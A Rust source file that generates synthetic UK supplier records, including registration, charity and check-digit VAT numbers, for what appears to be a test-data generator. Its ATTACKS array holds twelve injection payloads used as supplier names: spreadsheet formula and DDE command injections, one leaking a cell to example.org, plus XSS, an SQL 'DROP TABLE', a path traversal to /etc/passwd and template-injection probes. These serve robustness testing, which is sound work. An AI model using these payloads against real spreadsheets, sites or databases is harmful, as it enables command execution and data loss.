//! The suppliers themselves: what they are called, their numbers in registers, and their groups.

use std::collections::HashSet;

use fake::Fake;
use fake::faker::name::raw::{FirstName, LastName};
use fake::locales::{CY_GB, EN};
use rand::RngExt;

use super::spelling::{LegalForm, ProperName};
use super::{NATIONAL_FIRST, NATIONAL_ONE_IN};
use crate::dice::{Dice, Weights, dice, pick};
use crate::trades::{TRADES, Trade, TradeId};

/// A real organisation behind printed names.
#[derive(Clone, Debug)]
pub(crate) struct Supplier {
    pub id: u32,
    pub name: ProperName,
    pub trade: TradeId,
    /// The supplier at the head of its group, where it has one.
    pub group: Option<u32>,
    pub is_national: bool,
    /// Its name is text that a spreadsheet or browser might run.
    pub is_attack: bool,
    /// Companies House number of companies and partnerships with limited liability.
    pub company_number: Option<String>,
    pub charity_number: Option<String>,
    pub vat_number: Option<String>,
    pub postcode: String,
}

/// Payees that other programs might run, draw or follow; they are only names.
pub(crate) const ATTACKS: [&str; 12] = [
    "=HYPERLINK(\"http://example.org/?x=\"&A1,\"Refund\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+44 1632 960000 Taxis",
    "-2+3+cmd|' /C notepad'!A1 Ltd",
    "<script>alert('paid')</script>",
    "<img src=x onerror=alert(1)> & Sons Ltd",
    "\"><svg/onload=alert(1)>",
    "'; DROP TABLE spend; --",
    "../../../../etc/passwd",
    "{{7*7}} ${7*7} Systems",
    "javascript:alert(document.domain)//",
    "\u{202e}dtL slooT esreveR",
];

/// One supplier in this many has a sister company whose name differs by one word.
const SISTER_ONE_IN: u32 = 25;

/// This many suppliers, each under a name of its own.
pub(crate) fn register(seed: u64, n: u32, attacks: bool) -> Vec<Supplier> {
    let mut maker = Maker { dice: dice(seed, "suppliers"), taken: HashSet::new(), all: Vec::new() };
    for trade in TradeId::ALL {
        (0..NATIONAL_FIRST).for_each(|_| maker.add(*trade, true));
    }
    let by_share = Weights::new(TRADES.iter().map(|trade| trade.share));
    while maker.all.len() < n as usize {
        let trade = TradeId::ALL[by_share.draw(&mut maker.dice)];
        let is_national = maker.dice.random_ratio(1, NATIONAL_ONE_IN);
        maker.add(trade, is_national);
        if maker.dice.random_ratio(1, SISTER_ONE_IN) {
            maker.add_sister();
        }
    }
    if attacks {
        ATTACKS.iter().for_each(|name| maker.add_attack(name));
    }
    maker.all
}

struct Maker {
    dice: Dice,
    taken: HashSet<String>,
    all: Vec<Supplier>,
}

impl Maker {
    fn add(&mut self, trade: TradeId, is_national: bool) {
        let form = form_of(trade.trade(), is_national, &mut self.dice);
        let stem = loop {
            let stem = stem(trade.trade(), form, &mut self.dice);
            if self.taken.insert(stem.to_lowercase()) {
                break stem;
            }
        };
        let trades_as = self.dice.random_ratio(1, 8);
        let trading_name =
            trades_as.then(|| format!("{} {}", root(&mut self.dice), pick(&mut self.dice, trade.trade().nouns)));
        let name = ProperName { stem, form, trading_name };
        self.push(name, trade, is_national, None);
    }

    /// A second company of the last one's group: another legal entity under nearly the same name.
    fn add_sister(&mut self) {
        let Some(head) = self.all.last().filter(|last| last.name.form == LegalForm::Limited).cloned() else { return };
        let word = pick(&mut self.dice, &["(UK)", "Holdings", "Group", "Services", "(North)", "Care", "International"]);
        let stem = format!("{} {word}", head.name.stem);
        if self.taken.insert(stem.to_lowercase()) {
            let name = ProperName { stem, form: LegalForm::Limited, trading_name: None };
            self.push(name, head.trade, head.is_national, Some(head.id));
            let at = self.all.iter().rposition(|supplier| supplier.id == head.id).expect("the head is there");
            self.all[at].group = Some(head.id);
        }
    }

    fn add_attack(&mut self, text: &str) {
        let trade = pick(&mut self.dice, &[TradeId::Office, TradeId::Food, TradeId::Computing, TradeId::Advice]);
        let name = ProperName { stem: text.to_owned(), form: LegalForm::Person, trading_name: None };
        self.push(name, trade, true, None);
        self.all.last_mut().expect("it was just added").is_attack = true;
    }

    fn push(&mut self, name: ProperName, trade: TradeId, is_national: bool, group: Option<u32>) {
        let dice = &mut self.dice;
        let is_company = matches!(name.form, LegalForm::Limited | LegalForm::Plc | LegalForm::Llp | LegalForm::Cic);
        let company_number = is_company.then(|| company_number(name.form, dice));
        let charity_number =
            (name.form == LegalForm::Charity).then(|| dice.random_range(200_000..1_200_000).to_string());
        let has_vat = !matches!(name.form, LegalForm::Person | LegalForm::Charity);
        let vat_number = has_vat.then(|| vat_number(dice));
        let postcode = postcode(dice, is_national);
        let id = self.all.len() as u32;
        self.all.push(Supplier {
            id,
            name,
            trade,
            group,
            is_national,
            is_attack: false,
            company_number,
            charity_number,
            vat_number,
            postcode,
        });
    }
}

fn form_of(trade: &Trade, is_national: bool, dice: &mut Dice) -> LegalForm {
    let at = dice.random_range(0..100);
    if is_national && trade.charities < 50 {
        return if at < 25 { LegalForm::Plc } else { LegalForm::Limited };
    }
    match at {
        at if at < trade.people => LegalForm::Person,
        at if at < trade.people + trade.charities => LegalForm::Charity,
        at if at < trade.people + trade.charities + trade.partnerships => {
            if dice.random_bool(0.5) {
                LegalForm::Llp
            } else {
                LegalForm::Partnership
            }
        }
        at if at >= 97 => LegalForm::Cic,
        _ => LegalForm::Limited,
    }
}

/// A name without its legal form.
fn stem(trade: &Trade, form: LegalForm, dice: &mut Dice) -> String {
    let noun = pick(dice, trade.nouns);
    if form == LegalForm::Person {
        let first: &str = FirstName(EN).fake_with_rng(dice);
        return match dice.random_range(0..4) {
            0 => format!("{first} {}", surname(dice)),
            1 => format!("{} {} {noun}", initial(first), surname(dice)),
            2 => format!("Mr {} {}", initial(first), surname(dice)),
            _ => format!("{first} {} {noun}", surname(dice)),
        };
    }
    match noun {
        "Café" => format!("Café {}", root(dice)),
        noun => format!("{} {noun}", root(dice)),
    }
}

fn initial(name: &str) -> char {
    name.chars().next().unwrap_or('A')
}

/// One surname in six is Welsh.
fn surname(dice: &mut Dice) -> String {
    let name: &str =
        if dice.random_ratio(1, 6) { LastName(CY_GB).fake_with_rng(dice) } else { LastName(EN).fake_with_rng(dice) };
    // The list writes O'Reilly with a plain apostrophe; half of the world does not.
    if dice.random_bool(0.5) { name.replace('\'', "\u{2019}") } else { name.to_owned() }
}

const FIRST_HALVES: [&str; 40] = [
    "Green", "Wend", "Amble", "Holt", "Ash", "Oak", "River", "Stone", "Black", "White", "Red", "Silver", "North",
    "South", "East", "West", "High", "Low", "Long", "Broad", "Mill", "Marsh", "Fen", "Moor", "Wood", "Elm", "Thorn",
    "Swan", "Hawk", "Fox", "Lamb", "King", "Queen", "Abbey", "Castle", "Clear", "Bright", "Summer", "Winter",
    "Harvest",
];
const SECOND_HALVES: [&str; 24] = [
    "field", "ford", "bridge", "gate", "brook", "hill", "ley", "wood", "water", "side", "well", "stone", "ton",
    "bourne", "dale", "wick", "mere", "view", "bank", "way", "land", "path", "crest", "light",
];

/// What stands before the noun: surnames, or words that sound like places.
fn root(dice: &mut Dice) -> String {
    match dice.random_range(0..8) {
        0 | 1 => surname(dice),
        2 => format!("{} & {}", surname(dice), surname(dice)),
        3 => format!("{} and Sons", surname(dice)),
        4 => format!("St. {}\u{2019}s", FirstName(EN).fake_with_rng::<&str, _>(dice)),
        _ => format!("{}{}", pick(dice, &FIRST_HALVES), pick(dice, &SECOND_HALVES)),
    }
}

/// Eight characters; Excel strips the zeros in front.
fn company_number(form: LegalForm, dice: &mut Dice) -> String {
    match form {
        LegalForm::Llp => format!("OC{}", dice.random_range(300_000..450_000)),
        _ if dice.random_ratio(1, 30) => format!("SC{}", dice.random_range(100_000..800_000)),
        _ => format!("{:08}", dice.random_range(100_000..15_900_000)),
    }
}

/// Nine digits of which the last two check the first seven (method, section 2.3).
fn vat_number(dice: &mut Dice) -> String {
    let seven: u32 = dice.random_range(1_000_000..10_000_000);
    let weighed: u32 = (0..7).map(|i| seven / 10u32.pow(6 - i) % 10 * (8 - i)).sum();
    format!("{seven}{:02}", (97 - (weighed + 55) % 97) % 97)
}

fn postcode(dice: &mut Dice, is_national: bool) -> String {
    let area = if is_national { pick(dice, &["ZA", "ZB", "QN", "QX"]) } else { "WX" };
    let mut letter = || char::from(pick(dice, b"ABDEFGHJLNPQRSTUWXYZ"));
    let (a, b) = (letter(), letter());
    format!("{area}{} {}{a}{b}", dice.random_range(1..30), dice.random_range(1..10))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_vat_number_checks_by_the_newer_rule() {
        let mut dice = dice(3, "vat");
        for _ in 0..100 {
            let digits: Vec<u32> = vat_number(&mut dice).chars().filter_map(|c| c.to_digit(10)).collect();
            assert_eq!(digits.len(), 9);
            let weighed: u32 =
                digits[..7].iter().zip([8, 7, 6, 5, 4, 3, 2]).map(|(digit, weight)| digit * weight).sum();
            assert_eq!((weighed + digits[7] * 10 + digits[8] + 55) % 97, 0, "{digits:?}");
        }
    }

    #[test]
    fn names_are_unlike_and_some_have_sisters() {
        let all = register(5, 3_000, false);
        let names: HashSet<String> = all.iter().map(|supplier| supplier.name.registered().to_lowercase()).collect();
        assert_eq!(names.len(), all.len());
        assert!(all.iter().filter(|supplier| supplier.group.is_some()).count() > 100);
    }
}
